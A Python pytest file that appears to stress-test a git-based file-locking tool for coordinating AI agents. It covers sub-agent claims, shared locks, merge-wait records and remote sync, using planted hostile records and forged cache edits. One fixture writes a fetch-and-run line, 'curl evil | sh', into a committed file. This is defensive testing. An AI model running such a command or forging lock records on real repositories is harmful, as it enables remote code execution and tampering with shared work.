"""Hostile review: interactions between shared claims, sub-agents, release --all,
until-merged claims, remote mode and sync, through real git."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from conftest import git
from support.cli import alock, run_git
from support.records import edit_cache, plant

LEAD_A = {"AGENT_ID": "lead-a"}
LEAD_B = {"AGENT_ID": "lead-b"}
A = {"AGENT_ID": "agent-a"}
B = {"AGENT_ID": "agent-b"}


def paths_held(cwd: Path) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for record in alock(cwd, "list", "--json").json():
        found.setdefault(record["holder"], []).extend(record["paths"])
    return found


def test_release_all_releases_only_the_sub_agent_claims_made_for_the_asker(repo: Path) -> None:
    # The same sub-agent id (say a 'reviewer' role) is used by two different leads.
    for_a = alock(repo, "acquire", "docs/a.md", AGENT_ID="reviewer", AGENT_PARENT_ID="lead-a")
    for_b = alock(repo, "acquire", "docs/b.md", AGENT_ID="reviewer", AGENT_PARENT_ID="lead-b")
    assert for_a.code == 0 and for_b.code == 0, (for_a.err, for_b.err)
    got = alock(repo, "release", "--all", **LEAD_A)
    assert got.code == 0, got.err
    # lead-a's sub-agent work is gone, lead-b's sub-agent work is not.
    assert paths_held(repo) == {"reviewer": ["docs/b.md"]}


def test_a_planted_record_waiting_for_HEAD_never_moves_the_victims_origin_main(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from support.remote import make_bare, make_clone

    from gitlocks.service import landing

    bare = make_bare(tmp_path / "shared.git")
    victim = make_clone(bare.as_uri(), tmp_path / "victim")
    hostile = make_clone(bare.as_uri(), tmp_path / "hostile")
    assert git(victim, "symbolic-ref", "refs/remotes/origin/HEAD").strip() == (
        "refs/remotes/origin/main"
    )
    honest_main = git(bare, "rev-parse", "main").strip()
    # The hostile clone's own tool, bent to write until_merged "HEAD" (any client can).
    assert alock(hostile, "install-hooks").code == 0
    monkeypatch.setattr(landing, "check_branch", lambda store, branch: "HEAD")
    got = alock(hostile, "acquire", "evil/**", "--until-merged", "main", AGENT_ID="mallory")
    assert got.code == 0, got.err
    monkeypatch.undo()
    (hostile / "evil").mkdir()
    (hostile / "evil" / "x.py").write_text("import os; os.system('curl evil | sh')\n")
    git(hostile, "add", "-A")
    assert run_git(hostile, "commit", "-q", "-m", "evil", env={"AGENT_ID": "mallory"}).code == 0
    evil = git(hostile, "rev-parse", "HEAD").strip()
    git(hostile, "push", "-q", "origin", "HEAD:refs/heads/HEAD")
    # A record waiting for "HEAD" is no usable record: reported, never acted on.
    listed = alock(hostile, "list", "--json")
    assert all(r["holder"] != "mallory" for r in listed.json())
    assert "until_merged" in listed.err and evil
    # The victim merely syncs its lock table.
    synced = alock(victim, "sync")
    assert synced.code == 0, synced.err
    assert git(bare, "rev-parse", "main").strip() == honest_main
    assert git(victim, "rev-parse", "refs/remotes/origin/main").strip() == honest_main


def test_sharers_commit_in_block_mode_and_an_exclusive_outsider_is_blocked(repo: Path) -> None:
    """Held: two shared claims on one tree; both commit through a blocking pre-commit hook,
    a third holder without a claim is blocked, and verify flags only the third."""
    assert alock(repo, "install-hooks").code == 0
    git(repo, "config", "alock.hookMode", "block")
    assert alock(repo, "acquire", "--shared", "src/**", **A).code == 0
    assert alock(repo, "acquire", "--shared", "src/**", **B).code == 0
    base = git(repo, "rev-parse", "HEAD").strip()
    for who, text in ((A, "a\n"), (B, "b\n")):
        (repo / "src" / "app.py").write_text(text)
        git(repo, "add", "-A")
        got = run_git(repo, "commit", "-q", "-m", f"by {who['AGENT_ID']}", env=who)
        assert got.code == 0, got.err
    (repo / "src" / "app.py").write_text("c\n")
    git(repo, "add", "-A")
    blocked = run_git(repo, "commit", "-q", "-m", "by c", env={"AGENT_ID": "agent-c"})
    assert blocked.code != 0
    got = alock(repo, "verify", f"{base}..HEAD", "--json", **A)
    assert got.code == 0, (got.out, got.err)


def test_a_hand_edited_verdict_cannot_hide_a_landing_record(repo: Path) -> None:
    """Held (in part): a verdict edited to landing=false hides the record from sweeps only
    until a command reads it whole; that read is refused once, forgets the verdicts, and
    the next write lands the claim."""
    assert alock(repo, "install-hooks").code == 0
    git(repo, "checkout", "-q", "-b", "feature")
    assert alock(repo, "acquire", "src/**", "--until-merged", "main", **A).code == 0
    (repo / "src" / "app.py").write_text("one\n")
    git(repo, "add", "-A")
    assert run_git(repo, "commit", "-q", "-m", "work", env=A).code == 0
    assert alock(repo, "acquire", "x/**", **B).code == 0  # verdicts kept
    gitdir = Path(git(repo, "rev-parse", "--git-common-dir").strip())
    if not gitdir.is_absolute():
        gitdir = repo / gitdir

    def not_landing(doc: dict[str, Any]) -> dict[str, Any]:
        landing = doc["summaries"]["landing"]
        assert landing.count(True) == 1
        landing[landing.index(True)] = False
        return doc

    edit_cache(gitdir, not_landing)
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--ff-only", "feature")
    assert alock(repo, "acquire", "y/**", **B).code == 0
    listed = alock(repo, "list", "--json")
    assert listed.code == 2 and "kept verdicts were forgotten" in listed.err
    assert alock(repo, "acquire", "z/**", **B).code == 0
    listed = alock(repo, "list", "--json")
    assert listed.code == 0, listed.err
    assert all("src/**" not in r["paths"] for r in listed.json()), listed.out


def test_a_sub_agents_guarded_edit_inside_its_parents_claim_passes(repo: Path) -> None:
    """Held: the guard lets a declared sub-agent edit inside its parent's exclusive claim,
    and the parent's own edit inside the sub-agent's shared claim is denied."""
    from support.guard import edit, guard

    assert alock(repo, "acquire", "src/**", **LEAD_A).code == 0
    got = guard(repo, edit(repo, "src/app.py"), None, AGENT_ID="kid", AGENT_PARENT_ID="lead-a")
    assert got.code == 0 and "deny" not in got.out, got.out
    assert alock(repo, "acquire", "--shared", "docs/**", AGENT_ID="kid2",
                 AGENT_PARENT_ID="lead-b").code == 0  # fmt: skip
    denied = guard(repo, edit(repo, "docs/x.md"), None, **LEAD_B)
    assert "deny" in denied.out or denied.code == 2, denied.out


def test_landing_branches_are_fetched_into_gitlocks_own_refs(tmp_path: Path) -> None:
    """Whatever branch a record waits for, sync fetches it under refs/agent-locks-remote/:
    the user's remote-tracking refs (and a symbolic ref among them) are never written."""
    from support.remote import make_bare, make_clone

    bare = make_bare(tmp_path / "shared.git")
    mine = make_clone(bare.as_uri(), tmp_path / "mine")
    other = make_clone(bare.as_uri(), tmp_path / "other")
    before = git(mine, "rev-parse", "refs/remotes/origin/main").strip()
    assert alock(mine, "install-hooks").code == 0
    assert alock(mine, "acquire", "app/**", "--until-merged", **A).code == 0
    (mine / "app").mkdir()
    (mine / "app" / "x.py").write_text("x\n")
    git(mine, "add", "-A")
    assert run_git(mine, "commit", "-q", "-m", "work", env=A).code == 0
    git(mine, "push", "-q", "origin", "HEAD:refs/heads/side")
    git(other, "fetch", "-q", "origin", "side")
    git(other, "push", "-q", "origin", "FETCH_HEAD:refs/heads/main")
    synced = alock(mine, "sync", "--json")
    assert synced.code == 0 and len(synced.json()["landed"]) == 1, synced.out
    assert git(mine, "rev-parse", "refs/remotes/origin/main").strip() == before
    assert git(mine, "rev-parse", "refs/agent-locks-remote/origin/heads/main").strip() == (
        git(bare, "rev-parse", "main").strip()
    )


def test_planted_landing_records_cost_a_write_a_bounded_number_of_questions(
    repo: Path,
) -> None:
    """Forty records that name this machine, this worktree and a thousand commits each:
    a write asks about a few of them, a few commits each, and stays quick; a real claim
    among them still lands within a few writes."""

    from gitlocks.core.record import LockRecord, utcnow
    from gitlocks.identity import host_identity

    assert alock(repo, "install-hooks").code == 0
    git(repo, "checkout", "-q", "-b", "feature")
    assert alock(repo, "acquire", "real/**", "--until-merged", "main", **A).code == 0
    (repo / "real").mkdir()
    (repo / "real" / "x.py").write_text("x\n")
    git(repo, "add", "-A")
    assert run_git(repo, "commit", "-q", "-m", "real work", env=A).code == 0
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--ff-only", "feature")
    head = git(repo, "rev-parse", "HEAD").strip()
    stamp = utcnow().strftime("%Y-%m-%dT%H:%M:%SZ")
    for i in range(40):
        record = LockRecord(
            id=f"0000000000{i:02d}-planted",
            holder="mallory",
            paths=(f"p{i}/**",),
            created_at=stamp,
            renewed_at=stamp,
            expires_at="2099-01-01T00:00:00Z",
            host_id=host_identity(),
            worktree=str(repo),
            until_merged="main",
            awaiting=tuple([head] * 1000),
        )
        (repo / f"p{i}").mkdir()
        (repo / f"p{i}" / "dirty").write_text("keeps it from landing\n")
        plant(repo, record.id, record.to_json())
    # Each write asks about 8 of the 41 waiting records, drawn afresh: 60 writes miss the
    # real one with odds of about 1 in 500,000.
    for i in range(60):
        assert alock(repo, "acquire", f"w{i}/**", **B).code == 0
        if all("real/**" not in r["paths"] for r in alock(repo, "list", "--json").json()):
            break
    else:
        raise AssertionError("the real claim never landed among the planted ones")


def test_a_sub_agent_working_for_two_leads_is_each_leads_only_where_it_says(
    repo: Path,
) -> None:
    """check (and the hooks, status, verify) decide per record: reviewer's claim made for
    lead-b is not lead-a's to commit into, whichever record sorts first."""
    for_a = alock(repo, "acquire", "docs/a.md", AGENT_ID="reviewer", AGENT_PARENT_ID="lead-a")
    for_b = alock(repo, "acquire", "docs/b.md", AGENT_ID="reviewer", AGENT_PARENT_ID="lead-b")
    assert for_a.code == 0 and for_b.code == 0
    (repo / "docs").mkdir(exist_ok=True)
    for name in ("a.md", "b.md"):
        (repo / "docs" / name).write_text("edited\n")
    git(repo, "add", "docs")
    for lead, mine, theirs in (("lead-a", "a.md", "b.md"), ("lead-b", "b.md", "a.md")):
        got = alock(repo, "check", "--staged", "--json", AGENT_ID=lead)
        status = {item["path"]: item["status"] for item in got.json()}
        assert status[f"docs/{mine}"] == "yours" and status[f"docs/{theirs}"] == "held", lead


def test_switching_to_remote_mode_lets_shared_claims_share(tmp_path: Path) -> None:
    from support.remote import make_bare, make_clone

    bare = make_bare(tmp_path / "shared.git")
    first = make_clone(bare.as_uri(), tmp_path / "first")
    second = make_clone(bare.as_uri(), tmp_path / "second", remote_mode=False)
    assert alock(first, "acquire", "--shared", "docs/**", **A).code == 0
    assert alock(second, "acquire", "--shared", "docs/x.md", **B).code == 0
    switched = alock(second, "remote", "origin")
    assert switched.code == 0, switched.out + switched.err
